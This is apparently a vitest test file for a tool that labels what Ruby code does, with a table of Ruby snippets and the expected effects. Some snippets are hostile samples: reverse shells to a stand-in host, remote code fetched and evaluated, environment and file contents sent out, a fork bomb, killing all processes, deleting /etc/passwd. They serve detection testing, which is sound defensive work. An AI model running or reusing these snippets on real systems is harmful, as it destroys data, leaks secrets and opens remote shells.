// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the code under test has placeholders of its own
import { describe, expect, test } from "vitest";
import { given, shortLines } from "./code-lines.ts";

/** Code, and all that it does. */
const rows: readonly (readonly [code: string, ...lines: readonly string[]])[] = [
  // Printing and place
  ["puts 'a', 'b'; print 'c'; p 'd'; $stdout.puts 'e'; STDOUT.puts ENV; printf('%s', 'x')", "environment show"],
  ["File.delete(Dir.pwd + '/a'); File.delete(Dir.home + '/b'); File.delete(File.join('c', '/d')); File.delete(File.expand_path('~/e')); File.delete(File.expand_path('f', '/x')); File.delete(Dir.tmpdir + '/g')", "delete remove ./a", "delete remove ~/b", "delete remove ./c/d", "delete remove ~/e", "delete remove /x/f", "delete remove /tmp/g"],
  ["File.delete(ENV['HOME'] + '/a'); File.delete(ENV.fetch('HOME') + '/b'); File.delete(ARGV[0]); File.delete($0)", "delete remove ~/a", "delete remove ~/b", "delete remove ?", "delete remove ./-e"],
  // Names by text
  ["send(:system, 'rm a'); Kernel.send('system', 'rm b'); File.send(:delete, 'c'); File.public_send(name, 'd'); Object.const_get(:File).delete('e'); self.send(:eval, \"File.delete('f')\")", "code inline sh rm a", "run rm a", "delete remove ./a", "code inline sh rm b", "run rm b", "delete remove ./b", "delete remove ./c", "delete remove ./e", "code inline ruby File.delete('f')", "delete remove ./f"],
  ["Kernel.system('rm a'); ::File.delete('b'); m = File.method(:delete)", "code inline sh rm a", "run rm a", "delete remove ./a", "delete remove ./b"],
  ["f = lambda { |x| File.delete(x) }; f.call('a'); f.('b'); g = ->(x) { File.delete(x) }; g.call('c'); h = proc { |x| File.delete x }; h['d']", "delete remove ./a", "delete remove ./b", "delete remove ./c"],
  // Texts and lists
  ["File.delete('AB'.downcase + 'c'.upcase + ' d '.strip + \"e\\n\".chomp + 'fg'.reverse + 'hh'.gsub('h', 'i') + 'jj'.sub('j', 'k') + 'l m'.split[1])", "delete remove ./abCdegfiikjm"],
  ["File.delete(\"a#{1 + 1}\" + 'b'.concat('c') + ['d', 'e'].join + ['f', 'g'].reverse.join('-') + ['h'].first + 97.chr)", "delete remove ./a2bcdeg-fha"],
  ["File.delete(['61'].pack('H*') + [98, 99].pack('C*') + 'ZA=='.unpack1('m') + 'ZQ=='.unpack('m')[0]); File.delete(['x'].pack('m')); File.delete('x'.unpack('H*')[0])", "delete remove ./abcde", "delete remove ?", "delete remove ?"],
  ["require 'base64'; eval(Base64.decode64('RmlsZS5kZWxldGUoJ2EnKQ==')); File.delete(Base64.urlsafe_decode64('Yg=='))", "code decoded ruby File.delete('a')", "delete remove ./a", "delete remove ./b"],
  ["File.delete(format('%s-%d', 'a', 1)); File.delete(sprintf('%c', 98)); File.delete('x%s' % 'y'); File.delete('a' * 3); File.delete('a'.tr('a', 'b')); File.delete(:sym.to_s)", "delete remove ./a-1", "delete remove ./b", "delete remove ./xy", "delete remove ./aaa", "delete remove ./b", "delete remove ./sym"],
  ["%w[a b].each { |x| File.delete(x) }; ['c'].map { |x| File.delete x }; ['d', 'e'].each_with_index { |x, i| File.delete x }; ['f'].select { |x| x }.each { |x| File.delete x }; a = []; a << 'g'; a.push('h'); a.each { |x| File.delete(x) }", "delete remove ./a", "delete remove ./b", "delete remove ./c", "delete remove ./d", "delete remove ./e", "delete remove ./f", "delete remove ./g", "delete remove ./h"],
  ["{ a: 'b', 'c' => 'd' }.each { |k, v| File.delete(v) }; h = { k: 'e' }; File.delete(h[:k]); 2.times { File.delete('f') }", "delete remove ./b", "delete remove ./d", "delete remove ./e", "delete remove ./f"],
  ["for x in ['a', 'b'] do File.delete(x) end; while true do File.delete('c') end; until x; File.delete('d'); end; loop { File.delete('e') }", "delete remove ./a", "delete remove ./b", "delete remove ./c", "delete remove ./d", "delete remove ./e"],
  // Files
  ["require 'fileutils'; FileUtils.rm_rf('a'); FileUtils.rm_r(['b', 'c']); FileUtils.rm 'd'; FileUtils.remove_dir('e'); Dir.rmdir('f'); FileUtils.rm_f(%w[g h])", "delete remove ./a all", "delete remove ./b all", "delete remove ./c all", "delete remove ./d", "delete remove ./e all", "delete remove ./f", "delete remove ./g", "delete remove ./h"],
  ["FileUtils.mv('a', 'b'); File.rename('c', 'd'); FileUtils.cp('e', 'f'); FileUtils.cp_r 'g', 'h'; FileUtils.mkdir_p('i'); FileUtils.touch('j'); FileUtils.ln_s('k', 'l'); File.symlink('m', 'n')", "delete move-away ./a", "write truncate ./b", "delete move-away ./c", "write truncate ./d", "read content ./e", "write truncate ./f", "read content ./g", "write truncate ./h", "write mkdir ./i", "write append ./j", "write link ./l", "write link ./n"],
  ["FileUtils.chmod(0777, 'a'); File.chmod(0755, 'b', 'c'); FileUtils.chmod_R(0777, 'd'); FileUtils.chown_R('x', 'y', 'e'); File.truncate('f', 0)", "permission world-writable ./a 777", "permission executable ./b 755", "permission executable ./c 755", "permission world-writable ./d 777", "permission owner ./e", "write truncate ./f"],
  ["File.write('a', 'x'); File.write('b', 'y', mode: 'a'); IO.binwrite('c', 'z'); File.open('d', 'w') { |f| f.write('w'); f.puts 'v' }; File.open('e').read; File.new('f', 'a') << 'u'; open('g').each_line { |l| l }", "write truncate ./a = x", "write append ./b = y", "write truncate ./c = z", "write truncate ./d = wv", "read content ./e", "write append ./f = u", "read content ./g"],
  ["File.read('a'); File.readlines('b'); File.foreach('c') { |l| puts l }; IO.read('d'); system(File.read('e'))", "read content ./a", "read content ./b", "read content ./c", "read content ./d", "read content ./e", "code variable sh ?"],
  ["Dir.glob('/x/*').each { |f| File.delete(f) }; Dir['/y/*'].each { |f| File.delete(f) }; Dir.children('/z').each { |f| File.delete('/z/' + f) }; Find.find('/w') { |f| File.delete(f) }", "delete remove /x/*", "delete remove /y/*", "read list /z", "delete remove /z/*", "read list /w", "delete remove /w/* all"],
  ["Dir.chdir('/etc'); File.delete('passwd'); Dir.chdir('/tmp') { File.delete('x') }", "delete remove /etc/passwd", "delete remove /tmp/x"],
  ["require 'pathname'; Pathname.new('a').rmtree; Pathname('b').unlink; Pathname.new('c').join('d').delete; Pathname.new('e').write('x'); Pathname.new('f').read; 'g'.delete('h')", "delete remove ./a all", "delete remove ./b", "delete remove ./c/d", "write truncate ./e = x", "read content ./f"],
  // Processes
  ["system('rm a'); system('rm', 'b'); exec 'rm', 'c'; spawn('rm d'); `rm e`; %x(rm f); IO.popen('rm g'); IO.popen(['rm', 'h']); Open3.capture3('rm', 'i'); Process.spawn('rm j', chdir: '/tmp')", "code inline sh rm a", "run rm a", "delete remove ./a", "run rm b", "delete remove ./b", "run rm c", "delete remove ./c", "code inline sh rm d", "run rm d", "delete remove ./d", "code inline sh rm e", "run rm e", "delete remove ./e", "code inline sh rm f", "run rm f", "delete remove ./f", "code inline sh rm g", "run rm g", "delete remove ./g", "run rm h", "delete remove ./h", "run rm i", "delete remove ./i", "code inline sh rm j", "run rm j", "delete remove /tmp/j"],
  ["open('|rm a'); Kernel.open('https://x.test/a'); open('b', 'w')", "code inline sh rm a", "run rm a", "delete remove ./a", "fetch x.test", "write truncate ./b"],
  ["eval(\"File.delete('a')\"); instance_eval \"File.delete('b')\"; binding.eval(\"File.delete('c')\"); eval(code); eval(File.read('x.rb')); Marshal.load(data)", "code inline ruby File.delete('a')", "delete remove ./a", "code inline ruby File.delete('b')", "delete remove ./b", "code inline ruby File.delete('c')", "delete remove ./c", "code variable ruby ?", "read content ./x.rb", "code file ruby ?"],
  ["loop { fork }; fork { File.delete('a') }; Process.kill('KILL', 12); Process.kill(9, -1); Process.kill(:TERM, pid)", "system fork-bomb", "delete remove ./a", "kill 12", "kill *"],
  ["out = `echo rm a`; system(out); x = %x(id); Net::HTTP.post(URI('https://x.test'), x)", "code inline sh echo rm a", "run echo rm a", "code inline sh rm a\n", "run rm a", "delete remove ./a", "code inline sh id", "run id", "send output x.test"],
  // Network
  ["require 'net/http'; Net::HTTP.get(URI('https://x.test/a')); Net::HTTP.post(URI.parse('https://x.test'), 'hi'); Net::HTTP.post_form(URI('https://y.test'), 'a' => File.read('k')); URI.open('https://z.test') { |f| eval(f.read) }", "fetch x.test", "send text x.test", "read content ./k", "send file y.test ./k", "fetch z.test", "code remote ruby ?"],
  ["eval(Net::HTTP.get(URI('https://x.test/a'))); HTTParty.post('https://y.test', body: ENV.to_h); Faraday.post('https://z.test', 'a'); RestClient.get 'https://w.test'; HTTParty.get('https://v.test')", "fetch x.test", "code remote ruby ?", "send environment y.test", "send text z.test", "fetch w.test", "fetch v.test"],
  ["require 'socket'; s = TCPSocket.new('x.test', 80); s.puts File.read('k'); s.write 'hi'; eval(s.gets); t = TCPServer.new(81); c = t.accept", "network connect x.test", "read content ./k", "send file x.test ./k", "send text x.test", "code remote ruby ?", "network listen"],
  ["s = TCPSocket.new('x.test', 1); exec \"/bin/sh -i <&#{s.fileno} >&#{s.fileno}\"", "network connect x.test", "network reverse-shell", "code inline sh /bin/sh -i <&? >&?", "run bash -i", "write truncate ?"],
  ["s = TCPSocket.open('x.test', 1); $stdin.reopen(s); $stdout.reopen(s); exec '/bin/sh'", "network connect x.test", "network reverse-shell", "code inline sh /bin/sh", "run bash"],
  ["s = TCPSocket.open('x.test', 1); spawn('/bin/sh', in: s, out: s)", "network connect x.test", "network reverse-shell", "code inline sh /bin/sh", "run bash"],
  ["eval(STDIN.read); eval(gets); x = $stdin.read; system(x)", "code variable ruby ?", "code variable ruby ?", "code variable sh ?"],
  // Code of every shape
  ["def f(a, b = 'x', *c, k: 'y', **o, &blk) File.delete(a); File.delete(b); File.delete(c[0]); File.delete(k); yield('z') end; f('p', 'q', 'r', k: 's') { |x| File.delete(x) }", "delete remove ./p", "delete remove ./q", "delete remove ./r", "delete remove ./s", "delete remove ./z"],
  ["class A; attr_reader :p; def initialize(p) @p = p end; def go; File.delete(@p) end; def self.all; File.delete('b') end end; A.new('a').go; A.all", "delete remove ./a", "delete remove ./b"],
  ["module M; def self.go = File.delete('a'); end; M.go; begin; File.delete('b'); rescue => e; File.delete('c'); ensure; File.delete('d'); end", "delete remove ./a", "delete remove ./b", "delete remove ./c", "delete remove ./d"],
  ["if x.end_with?('.c') then File.delete('a') elsif y; File.delete('b') else File.delete('c') end; File.delete('d') if x; File.delete('e') unless y; unless z then File.delete('f') end", "delete remove ./a", "delete remove ./b", "delete remove ./c", "delete remove ./d", "delete remove ./e", "delete remove ./f"],
  ["case x when 1 then File.delete('a') when 2; File.delete('b') else File.delete('c') end; case File.read('k')\nin [a] then File.delete('d') end", "delete remove ./a", "delete remove ./b", "delete remove ./c", "read content ./k", "delete remove ./d"],
  ["x = y ? 'a' : 'b'; File.delete(x); x ||= 'c'; x += 'd'; File.delete(z || 'e'); a, *b = 'f', 'g'; File.delete(b[0]); File.delete(-1.to_s); File.delete((1..3).to_a[0])", "delete remove ./a", "delete remove ./b", "delete remove ./e", "delete remove ./g", "delete remove ./-1", "delete remove ?"],
  ["$g = 'a'; @i = 'b'; @@c = 'c'; K = 'd'; File.delete($g, @i, @@c, K); not x; x and File.delete('e'); nil; true; false; 1.5; /a/ =~ x; x !~ /b/; \"#{nil}\"", "delete remove ./a", "delete remove ./b", "delete remove ./c", "delete remove ./d", "delete remove ./e"],
  ["File.delete <<~A + 'z'\nx\nA\n", "delete remove ./x\nz"],
  ["File.delete(\"\\x61\\u0062\\u{63}\\144\\e[0m\".chomp); File.delete('it\\'s'); File.delete(%q(a b)); File.delete(%Q(c#{1}))", "delete remove ./abcd\u001b[0m", "delete remove ./it's", "delete remove ./a b", "delete remove ./c1"],
  ["return File.delete('a') if x; next; break; redo; retry; defined?(x); alias y z; undef w; BEGIN { File.delete('b') } END { File.delete('c') }", "delete remove ./a", "delete remove ./b", "delete remove ./c"],
]; // biome-ignore format: one table

describe("what Ruby code does", () => {
  test.each(rows.map(([code, ...lines]) => ({ code, lines })))("$code", ({ code, lines }) => {
    expect(shortLines(given("ruby", code))).toEqual(lines);
  });
});
